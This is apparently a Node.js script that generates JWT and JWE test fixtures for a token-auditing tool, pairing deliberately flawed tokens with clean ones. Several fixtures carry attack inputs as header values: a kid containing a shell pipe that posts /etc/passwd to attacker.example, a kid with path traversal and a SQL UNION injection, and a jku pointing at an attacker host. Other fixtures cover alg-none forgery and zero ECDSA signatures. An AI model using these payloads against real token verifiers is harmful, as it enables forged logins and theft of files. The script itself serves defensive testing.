#!/usr/bin/env node
// Writes the token fixtures of fixtures/rules/jwt-*/ and jwe-*/: real tokens, signed or encrypted with
// keys made here (jose where it will produce the token; node:crypto for the malformed ones jose refuses
// to make: alg none, DER or zero ECDSA signatures, 1024-bit RSA, duplicate keys, RSA1_5). Run once from
// the repo root (`node test/tokens/audit-make-fixtures.mjs`) and commit the output; keys are random, so a
// rerun changes every token but none of the verdicts. Times are fixed around NOW and each fixture says
// `# --now`, so they never go stale. Fixture format: see test/rules/fixtures.test.ts.
import { createCipheriv, createHmac, generateKeyPairSync, publicEncrypt, randomBytes, randomUUID, sign, constants } from 'node:crypto';
import { mkdirSync, rmSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { CompactEncrypt, CompactSign, exportJWK, generateKeyPair, generateSecret } from 'jose';

const root = path.resolve(import.meta.dirname, '../..');
const NOW_ISO = '2026-01-01T00:00:00Z';
const NOW = Date.parse(NOW_ISO) / 1000;
const HOUR = 3600;
const DAY = 86400;

const b64 = (value) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const text = (value) => new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value));

/** Claims of a well-behaved access token: 1 h lifetime, issuer, audience, id. */
function claims(extra = {}) {
  return { iss: 'https://id.example.com', sub: 'u-1842', aud: 'api', iat: NOW - 600, exp: NOW - 600 + HOUR, jti: randomUUID(), ...extra };
}
const without = (object, ...names) => Object.fromEntries(Object.entries(object).filter(([name]) => !names.includes(name)));

// Keys.
const rsa = await generateKeyPair('RS256', { modulusLength: 2048, extractable: true });
const ps = await generateKeyPair('PS384', { modulusLength: 3072 });
const es256 = await generateKeyPair('ES256', { extractable: true });
const es512 = await generateKeyPair('ES512');
const ed = await generateKeyPair('EdDSA', { crv: 'Ed25519' });
const hsStrong = randomBytes(32);
const rsaOaep = await generateKeyPair('RSA-OAEP-256', { extractable: true });
const a256kw = await generateSecret('A256KW');
const dirKey = await generateSecret('A256GCM');
const nodeEs256 = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const nodeRsa1024 = generateKeyPairSync('rsa', { modulusLength: 1024 });
const nodeRsa2048 = generateKeyPairSync('rsa', { modulusLength: 2048 });

const josesign = (alg, key, payload, header = {}) =>
  new CompactSign(text(payload)).setProtectedHeader({ alg, typ: 'JWT', kid: `${alg.toLowerCase()}-2026-01`, ...header }).sign(key);

/** A JWS assembled by hand: the exact header text (duplicate keys, odd crit), signed with node:crypto. */
function handSign(headerText, payloadText, alg, key) {
  const input = `${b64(headerText)}.${b64(payloadText)}`;
  let signature;
  if (alg.startsWith('HS')) signature = createHmac(`sha${alg.slice(2)}`, key).update(input).digest();
  else if (alg === 'ES256') signature = sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' });
  else if (alg === 'RS256') signature = sign('sha256', Buffer.from(input), key);
  else if (alg === 'none') signature = Buffer.alloc(0);
  else throw new Error(alg);
  return `${input}.${signature.toString('base64url')}`;
}
const handHs256 = (header, payload, key = hsStrong) => handSign(JSON.stringify(header), JSON.stringify(payload), header.alg, key);

const fixtures = {}; // rule id -> { name: [comment lines, token] }
function add(rule, name, comment, token, directives = {}) {
  const lines = [`# ${comment}`, `# --now ${NOW_ISO}`, ...Object.entries(directives).map(([flag, value]) => `# --${flag} ${value}`)];
  (fixtures[rule] ??= {})[name] = `${lines.join('\n')}\n${token}\n`;
}

const rs256Clean = await josesign('RS256', rsa.privateKey, claims());
const hs256Clean = await josesign('HS256', hsStrong, claims());

// jwt-alg-none
add('jwt-alg-none', 'lowercase-none', 'alg "none": an Unsecured JWS', handSign('{"alg":"none","typ":"JWT"}', JSON.stringify(claims()), 'none'));
add('jwt-alg-none', 'mixed-case-none', 'alg "NoNe" in mixed case, aimed at case-sensitive deny-lists', handSign('{"alg":"NoNe","typ":"JWT"}', JSON.stringify(claims()), 'none'));
add('jwt-alg-none', 'none-with-signature', 'alg "None" with the signature of another token left on', `${b64({ alg: 'None', typ: 'JWT' })}.${b64(claims())}.${rs256Clean.split('.')[2]}`);
add('jwt-alg-none', 'rs256-clean.ok', 'a clean RS256 access token: 1 h, iat, jti, iss, aud, plain kid', rs256Clean);

// jwt-alg-unexpected
add('jwt-alg-unexpected', 'hs256-where-rs256-expected', 'HS256 where the verifiers expect RS256: the algorithm-confusion shape', hs256Clean, { alg: 'RS256' });
add('jwt-alg-unexpected', 'es256-not-in-list', 'ES256, not among RS256 and PS256', await josesign('ES256', es256.privateKey, claims()), { alg: 'RS256,PS256' });
add('jwt-alg-unexpected', 'rs256-expected.ok', 'RS256, in the list', rs256Clean, { alg: 'RS256,ES256' });
add('jwt-alg-unexpected', 'no-alg-list.ok', 'HS256 with no --alg: the rule has nothing to compare with', hs256Clean);

// jwt-weak-secret
add('jwt-weak-secret', 'jwtio-default', "HS256 signed with jwt.io's prefilled your-256-bit-secret", handHs256({ alg: 'HS256', typ: 'JWT' }, claims(), 'your-256-bit-secret'));
add('jwt-weak-secret', 'flask-jwt-extended-hs512', 'HS512 signed with the Flask-JWT-Extended docs secret super-secret', handHs256({ alg: 'HS512', typ: 'JWT' }, claims(), 'super-secret'));
add('jwt-weak-secret', 'keyboard-cat-hs384', "HS384 signed with express-session's README secret (an app sample secret)", handHs256({ alg: 'HS384', typ: 'JWT' }, claims(), 'keyboard cat'));
add('jwt-weak-secret', 'empty-secret', 'HS256 signed with an empty secret (an unset environment variable)', handHs256({ alg: 'HS256', typ: 'JWT' }, claims(), ''));
add('jwt-weak-secret', 'short-given-secret', 'HS256 whose secret, given with --secret, is 13 bytes (< 32)', handHs256({ alg: 'HS256', typ: 'JWT' }, claims(), 's3cr3t-k3y-26'), { secret: 's3cr3t-k3y-26' });
add('jwt-weak-secret', 'strong-secret.ok', 'HS256 with a random 32-byte secret', hs256Clean);
const longSecret = randomBytes(48).toString('base64url');
add('jwt-weak-secret', 'long-given-secret.ok', 'HS256 whose given secret is 64 characters', handHs256({ alg: 'HS256', typ: 'JWT' }, claims(), longSecret), { secret: longSecret });
add('jwt-weak-secret', 'rs256.ok', 'RS256: no HMAC secret to guess', rs256Clean);

// jwt-missing-exp
add('jwt-missing-exp', 'no-exp', 'no exp: never expires', await josesign('ES256', es256.privateKey, without(claims(), 'exp')));
add('jwt-missing-exp', 'exp-as-string', 'exp as a string, which many libraries ignore', await josesign('ES256', es256.privateKey, { ...claims(), exp: String(NOW + HOUR) }));
add('jwt-missing-exp', 'with-exp.ok', 'exp as a NumericDate', await josesign('ES256', es256.privateKey, claims()));
add('jwt-missing-exp', 'jwe-closed.ok', 'a JWE (dir, A256GCM) with no exp inside: the claims cannot be read without the key', await new CompactEncrypt(text(without(claims(), 'exp'))).setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' }).encrypt(dirKey));

// jwt-expired
add('jwt-expired', 'expired-3-days-ago', 'expired three days before --now', await josesign('EdDSA', ed.privateKey, claims({ iat: NOW - 3 * DAY - HOUR, exp: NOW - 3 * DAY })));
add('jwt-expired', 'expired-at-now', 'exp equal to --now: RFC 7519 needs now to be before exp', await josesign('EdDSA', ed.privateKey, claims({ iat: NOW - HOUR, exp: NOW })));
add('jwt-expired', 'valid.ok', 'expires 50 minutes after --now', await josesign('EdDSA', ed.privateKey, claims()));

// jwt-not-yet-valid
add('jwt-not-yet-valid', 'nbf-in-2h', 'nbf two hours after --now', await josesign('ES256', es256.privateKey, claims({ nbf: NOW + 2 * HOUR, exp: NOW + 3 * HOUR })));
add('jwt-not-yet-valid', 'iat-in-1h', 'issued an hour after --now: the issuer clock runs ahead', await josesign('ES256', es256.privateKey, claims({ iat: NOW + HOUR, exp: NOW + 2 * HOUR })));
add('jwt-not-yet-valid', 'skew-within-leeway.ok', 'iat 30 s after --now: within the 60 s leeway', await josesign('ES256', es256.privateKey, claims({ iat: NOW + 30, exp: NOW + 30 + HOUR })));

// jwt-long-lifetime
add('jwt-long-lifetime', 'thirty-days', 'lives 30 days', await josesign('PS384', ps.privateKey, claims({ iat: NOW - 60, exp: NOW - 60 + 30 * DAY })));
add('jwt-long-lifetime', 'no-iat-week-left', 'no iat, exp 7 days after --now', await josesign('PS384', ps.privateKey, without(claims({ exp: NOW + 7 * DAY }), 'iat')));
add('jwt-long-lifetime', 'over-custom-max', 'lives 1 h, above --max-lifetime 30m', await josesign('PS384', ps.privateKey, claims()), { 'max-lifetime': '30m' });
add('jwt-long-lifetime', 'one-hour.ok', 'lives 1 h', await josesign('PS384', ps.privateKey, claims()));
add('jwt-long-lifetime', 'week-allowed.ok', 'lives 7 days with --max-lifetime 8d', await josesign('PS384', ps.privateKey, claims({ iat: NOW - 60, exp: NOW - 60 + 7 * DAY })), { 'max-lifetime': '8d' });

// jwt-missing-jti / iss / aud
add('jwt-missing-jti', 'no-jti', 'no jti: cannot be revoked on its own', await josesign('RS256', rsa.privateKey, without(claims(), 'jti')));
add('jwt-missing-jti', 'jti-empty', 'jti is an empty string', await josesign('RS256', rsa.privateKey, claims({ jti: '' })));
add('jwt-missing-jti', 'with-jti.ok', 'a UUID jti', rs256Clean);
add('jwt-missing-iss', 'no-iss', 'no iss', await josesign('RS256', rsa.privateKey, without(claims(), 'iss')));
add('jwt-missing-iss', 'with-iss.ok', 'iss is the issuer URL', rs256Clean);
add('jwt-missing-aud', 'no-aud', 'no aud: any service trusting the issuer accepts it', await josesign('RS256', rsa.privateKey, without(claims(), 'aud')));
add('jwt-missing-aud', 'aud-empty-array', 'aud is an empty array', await josesign('RS256', rsa.privateKey, claims({ aud: [] })));
add('jwt-missing-aud', 'aud-array.ok', 'aud lists two services', await josesign('RS256', rsa.privateKey, claims({ aud: ['api', 'billing'] })));

// jwt-header-key-injection
const attackerJwk = await exportJWK(es256.publicKey);
add('jwt-header-key-injection', 'embedded-jwk', 'the header embeds the public key that verifies it (CVE-2018-0114 shape)', await josesign('ES256', es256.privateKey, claims(), { jwk: attackerJwk }));
add('jwt-header-key-injection', 'jku-http', 'jku points at a plain-http key set', await josesign('RS256', rsa.privateKey, claims(), { jku: 'http://keys.attacker.example/jwks.json' }));
add('jwt-header-key-injection', 'x5u', 'x5u points at a certificate URL', await josesign('RS256', rsa.privateKey, claims(), { x5u: 'https://10.0.0.7/cert.pem' }));
add('jwt-header-key-injection', 'x5c-chain', 'x5c carries a certificate chain (only medium: a pinned root makes it safe)', await josesign('RS256', rsa.privateKey, claims(), { x5c: [randomBytes(600).toString('base64')] }));
add('jwt-header-key-injection', 'kid-only.ok', 'only a kid naming a key the verifier has', rs256Clean);

// jwt-kid-injection
add('jwt-kid-injection', 'path-traversal', 'kid walks to /dev/null: an empty HMAC key', handHs256({ alg: 'HS256', typ: 'JWT', kid: '../../../../../../dev/null' }, claims(), ''));
add('jwt-kid-injection', 'sql-union', 'kid with a SQL UNION that returns a chosen key', handHs256({ alg: 'HS256', typ: 'JWT', kid: "missing' UNION SELECT 'attacker-key' -- " }, claims(), 'attacker-key'));
add('jwt-kid-injection', 'shell', 'kid with a shell pipe', await josesign('RS256', rsa.privateKey, claims(), { kid: 'key1|curl -d @/etc/passwd attacker.example' }));
add('jwt-kid-injection', 'kid-object', 'kid is an object: type confusion in the lookup', await josesign('RS256', rsa.privateKey, claims(), { kid: { $ne: null } }));
add('jwt-kid-injection', 'uuid.ok', 'a UUID kid', await josesign('RS256', rsa.privateKey, claims(), { kid: randomUUID() }));
add('jwt-kid-injection', 'did-url.ok', 'a DID URL kid with a fragment', await josesign('EdDSA', ed.privateKey, claims(), { kid: 'did:web:id.example.com#key-1' }));
add('jwt-kid-injection', 'thumbprint-with-dashes.ok', 'a base64url thumbprint kid that contains "--"', await josesign('RS256', rsa.privateKey, claims(), { kid: 'Nq--8xkP2vY_Zr0m-QfLhT3wJc1sV9uBaE6dKoI4g' }));

// jwt-bad-signature-encoding
const [rsHeader, rsPayload] = rs256Clean.split('.');
add('jwt-bad-signature-encoding', 'stripped-rs256', 'RS256 with the signature removed', `${rsHeader}.${rsPayload}.`);
const es256Token = await josesign('ES256', es256.privateKey, claims());
const [esHeader, esPayload, esSignature] = es256Token.split('.');
add('jwt-bad-signature-encoding', 'es256-der', 'ES256 signed as ASN.1 DER instead of raw r || s', `${esHeader}.${esPayload}.${sign('sha256', Buffer.from(`${esHeader}.${esPayload}`), { key: nodeEs256.privateKey, dsaEncoding: 'der' }).toString('base64url')}`);
add('jwt-bad-signature-encoding', 'psychic-es256', 'ES256 with r = 0 and s = 0: CVE-2022-21449', `${esHeader}.${esPayload}.${Buffer.alloc(64).toString('base64url')}`);
add('jwt-bad-signature-encoding', 'psychic-der', 'ES256 with r = 0 and s = 0, DER-encoded', `${esHeader}.${esPayload}.${Buffer.from([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00]).toString('base64url')}`);
add('jwt-bad-signature-encoding', 'rs256-1024-bit', 'RS256 signed with a 1024-bit RSA key (128-byte signature)', handSign(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: 'legacy' }), JSON.stringify(claims()), 'RS256', nodeRsa1024.privateKey));
const [hsHeader, hsPayload, hsSignature] = hs256Clean.split('.');
add('jwt-bad-signature-encoding', 'hs256-truncated', 'HS256 with the MAC cut to 16 bytes', `${hsHeader}.${hsPayload}.${Buffer.from(hsSignature, 'base64url').subarray(0, 16).toString('base64url')}`);
add('jwt-bad-signature-encoding', 'es256-raw.ok', 'ES256, raw 64-byte r || s', `${esHeader}.${esPayload}.${esSignature}`);
add('jwt-bad-signature-encoding', 'es512-raw.ok', 'ES512, raw 132-byte r || s', await josesign('ES512', es512.privateKey, claims()));
add('jwt-bad-signature-encoding', 'ps384-3072.ok', 'PS384 with a 3072-bit key (384-byte signature)', await josesign('PS384', ps.privateKey, claims()));
add('jwt-bad-signature-encoding', 'eddsa.ok', 'EdDSA (Ed25519), 64 bytes', await josesign('EdDSA', ed.privateKey, claims()));
add('jwt-bad-signature-encoding', 'rs256-2048-by-node.ok', 'RS256 with a 2048-bit key, signed by node:crypto', handSign(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: 'k1' }), JSON.stringify(claims()), 'RS256', nodeRsa2048.privateKey));

// jwt-crit-unknown
add('jwt-crit-unknown', 'unknown-extension', 'crit requires an extension nobody implements', handHs256({ alg: 'HS256', typ: 'JWT', crit: ['urn:example:tenant-policy'], 'urn:example:tenant-policy': 'strict' }, claims()));
add('jwt-crit-unknown', 'crit-empty', 'crit is an empty array', handHs256({ alg: 'HS256', typ: 'JWT', crit: [] }, claims()));
add('jwt-crit-unknown', 'crit-lists-alg', 'crit lists alg, a registered header', handHs256({ alg: 'HS256', typ: 'JWT', crit: ['alg'] }, claims()));
add('jwt-crit-unknown', 'crit-not-array', 'crit is a string', handHs256({ alg: 'HS256', typ: 'JWT', crit: 'exp' }, claims()));
add('jwt-crit-unknown', 'b64-without-crit', 'b64 set without listing it in crit (RFC 7797 §6)', handHs256({ alg: 'HS256', b64: false }, claims()));
const detachedInput = `${b64({ alg: 'HS256', b64: false, crit: ['b64'] })}.{"amount":"10.00"}`;
add('jwt-crit-unknown', 'b64-in-crit.ok', 'RFC 7797 unencoded, detached payload: b64 listed in crit', `${detachedInput.split('.')[0]}..${createHmac('sha256', hsStrong).update(detachedInput).digest('base64url')}`);
add('jwt-crit-unknown', 'open-banking.ok', 'UK Open Banking detached-signature headers in crit', handHs256({ alg: 'HS256', kid: 'ob-1', 'http://openbanking.org.uk/iat': NOW - 10, 'http://openbanking.org.uk/iss': 'ob-org', 'http://openbanking.org.uk/tan': 'openbanking.org.uk', crit: ['http://openbanking.org.uk/iat', 'http://openbanking.org.uk/iss', 'http://openbanking.org.uk/tan'] }, claims()));
add('jwt-crit-unknown', 'no-crit.ok', 'no crit', rs256Clean);

// jwt-sensitive-claims
add('jwt-sensitive-claims', 'password', 'the password in the token', await josesign('RS256', rsa.privateKey, claims({ username: 'ada', password: 'correct horse battery staple' })));
add('jwt-sensitive-claims', 'card-number', 'a Luhn-valid card number, nested', await josesign('RS256', rsa.privateKey, claims({ payment: { method: 'card', card: '4111 1111 1111 1111' } })));
add('jwt-sensitive-claims', 'ssn', 'a US SSN', await josesign('RS256', rsa.privateKey, claims({ profile: { tax: '219-09-9999' } })));
add('jwt-sensitive-claims', 'email-and-phone', 'email and phone number (personal data: medium)', await josesign('RS256', rsa.privateKey, claims({ email: 'ada@example.com', phone_number: '+44 20 7946 0958' })));
add('jwt-sensitive-claims', 'iban', 'an IBAN', await josesign('RS256', rsa.privateKey, claims({ payout: 'GB82 WEST 1234 5698 7654 32' })));
add('jwt-sensitive-claims', 'opaque.ok', 'an opaque subject, roles and ids', await josesign('RS256', rsa.privateKey, claims({ roles: ['reader'], org: 'org_7Hq2', order: '1234567890123456789', amr: ['pwd', 'mfa'], pwd_changed: true, password: false })));
add('jwt-sensitive-claims', 'jwe-encrypted.ok', 'a password inside a JWE (RSA-OAEP-256): not readable without the key', await new CompactEncrypt(text(claims({ password: 'hunter2' }))).setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM', cty: 'JWT' }).encrypt(rsaOaep.publicKey));

// jwt-oversized
const groups = (count) => Array.from({ length: count }, (_, index) => `CN=app-group-${String(index).padStart(4, '0')},OU=Groups,DC=corp,DC=example`);
add('jwt-oversized', 'cookie-too-big', 'about 5 KB: over the 4096-byte cookie limit', await josesign('ES256', es256.privateKey, claims({ groups: groups(60) })));
add('jwt-oversized', 'header-too-big', 'about 10 KB: over the 8 KB header limit of common proxies', await josesign('ES256', es256.privateKey, claims({ groups: groups(120) })));
add('jwt-oversized', 'typical.ok', 'a typical access token', await josesign('ES256', es256.privateKey, claims({ groups: groups(3) })));

// jwt-non-canonical
add('jwt-non-canonical', 'duplicate-alg', 'alg twice in the header', handSign('{"alg":"HS256","typ":"JWT","alg":"HS256"}', JSON.stringify(claims()), 'HS256', hsStrong));
add('jwt-non-canonical', 'duplicate-sub', 'sub twice in the payload: which user?', handSign('{"alg":"HS256","typ":"JWT"}', JSON.stringify(claims()).replace('"sub":"u-1842"', '"sub":"u-1842","sub":"admin"'), 'HS256', hsStrong));
const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const flipped = hsSignature.slice(0, -1) + alphabet[alphabet.indexOf(hsSignature.at(-1)) ^ 1];
add('jwt-non-canonical', 'non-canonical-signature', 'the signature with its unused trailing bits set: another text for the same token', `${hsHeader}.${hsPayload}.${flipped}`);
add('jwt-non-canonical', 'canonical.ok', 'canonical base64url, unique keys', hs256Clean);

// jwe-weak-algorithm
function handJwe(header, plaintext) {
  // RSA1_5 key wrapping and zip: jose 6 no longer makes these; node:crypto does (A256GCM content encryption).
  const cek = randomBytes(32);
  const encryptedKey = header.alg === 'RSA1_5' ? publicEncrypt({ key: nodeRsa2048.publicKey, padding: constants.RSA_PKCS1_PADDING }, cek) : Buffer.alloc(0);
  const protectedHeader = b64(header);
  const iv = randomBytes(12);
  const cipher = createCipheriv('aes-256-gcm', cek, iv);
  cipher.setAAD(Buffer.from(protectedHeader));
  const ciphertext = Buffer.concat([cipher.update(plaintext), cipher.final()]);
  return [protectedHeader, encryptedKey.toString('base64url'), iv.toString('base64url'), ciphertext.toString('base64url'), cipher.getAuthTag().toString('base64url')].join('.');
}
const { deflateRawSync } = await import('node:zlib');
add('jwe-weak-algorithm', 'rsa1_5', 'RSA1_5 key wrapping: padding-oracle prone', handJwe({ alg: 'RSA1_5', enc: 'A256GCM', cty: 'JWT' }, Buffer.from(JSON.stringify(claims()))));
add('jwe-weak-algorithm', 'zip-deflate', 'zip DEF: compressed before encryption', handJwe({ alg: 'dir', enc: 'A256GCM', zip: 'DEF', cty: 'JWT' }, deflateRawSync(Buffer.from(JSON.stringify(claims())))));
const pbes2 = (p2c) =>
  new CompactEncrypt(text(claims())).setProtectedHeader({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', cty: 'JWT' }).setKeyManagementParameters({ p2c }).encrypt(text('correct horse battery staple'));
add('jwe-weak-algorithm', 'pbes2-p2c-too-high', 'PBES2 with p2c 2,000,000: every decryption burns CPU', await pbes2(2_000_000));
add('jwe-weak-algorithm', 'pbes2-p2c-too-low', 'PBES2 with p2c 100, below the recommended 1000', await pbes2(100));
add('jwe-weak-algorithm', 'rsa-oaep-256.ok', 'RSA-OAEP-256 with A256GCM', await new CompactEncrypt(text(claims())).setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM', cty: 'JWT' }).encrypt(rsaOaep.publicKey));
add('jwe-weak-algorithm', 'a256kw.ok', 'A256KW with A256GCM', await new CompactEncrypt(text(claims())).setProtectedHeader({ alg: 'A256KW', enc: 'A256GCM', cty: 'JWT' }).encrypt(a256kw));
add('jwe-weak-algorithm', 'dir.ok', 'dir with A256GCM', await new CompactEncrypt(text(claims())).setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' }).encrypt(dirKey));
add('jwe-weak-algorithm', 'pbes2-p2c-310000.ok', 'PBES2 with p2c 310,000', await pbes2(310_000));
add('jwe-weak-algorithm', 'rs256-jws.ok', 'a JWS: the rule is about JWE only', rs256Clean);

for (const [rule, files] of Object.entries(fixtures)) {
  const folder = path.join(root, 'fixtures/rules', rule);
  mkdirSync(folder, { recursive: true });
  for (const name of readdirSync(folder)) if (name.endsWith('.jwt')) rmSync(path.join(folder, name));
  for (const [name, content] of Object.entries(files)) writeFileSync(path.join(folder, `${name}.jwt`), content);
  console.log(`${rule}: ${Object.keys(files).length} fixtures`);
}
